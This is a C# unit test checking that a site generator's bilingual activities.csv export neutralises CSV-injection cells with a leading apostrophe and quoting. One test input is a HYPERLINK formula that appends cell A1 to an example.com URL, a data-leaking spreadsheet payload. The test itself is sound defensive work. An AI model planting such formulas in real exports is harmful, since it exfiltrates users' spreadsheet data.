using System.Text;
using QualityMonth.Tests.Support;

namespace QualityMonth.Tests.Data;

/// <summary>
/// activities.csv is meant for Excel, which runs a cell starting with = + - @ as a formula (CSV injection): such cells
/// come out with a leading ' and quoted (OWASP), in both languages, and read back by CsvHelper as that text.
/// </summary>
public sealed class CsvInjectionTests : IDisposable
{
    private const string Activities = "input/2024/activities/fuzhou.yml";
    private const string Formula = "=HYPERLINK(\"https://example.com/?\"&A1,\"点击\")";
    private readonly TempSite _site = new();

    [Fact]
    public void Cells_that_start_like_a_formula_are_neutralised_in_both_languages()
    {
        _site.Edit(Activities, "    title: 举办“加强质量支撑 共建质量强国”2024年福州“质量月”启动仪式\n    title_en: Hold the launch ceremony of Fuzhou's 2024 \"Quality Month\", themed \"Strengthen Quality Support, Build a Quality Country Together\"\n",
            $"    title: '{Formula.Replace("'", "''", StringComparison.Ordinal)}'\n    title_en: '@SUM(1+1)'\n    description: '+1+1'\n    description_en: '-1+1'\n");
        var build = Generator.Run("build", "--root", _site.Root);
        Assert.True(build.ExitCode == 0, build.All);

        var chinese = Row("");
        Assert.Equal("'" + Formula, chinese["title"]);
        Assert.Equal("'+1+1", chinese["description"]);
        var english = Row("en/");
        Assert.Equal("'@SUM(1+1)", english["title"]);
        Assert.Equal("'-1+1", english["description"]);
        // Quoted as well as prefixed, as OWASP asks.
        var text = Encoding.UTF8.GetString(File.ReadAllBytes(Path.Combine(_site.Output, "en", "data", "activities.csv")));
        Assert.Contains(",\"'@SUM(1+1)\",\"'-1+1\",", text);
    }

    private Dictionary<string, string> Row(string prefix)
    {
        var (_, rows) = ActivitiesCsvTests.ReadCsv(Path.Combine(_site.Output, prefix, "data", "activities.csv"));
        return Assert.Single(rows, r => r["id"] == "2024/fuzhou/launch-ceremony");
    }

    public void Dispose() => _site.Dispose();
}
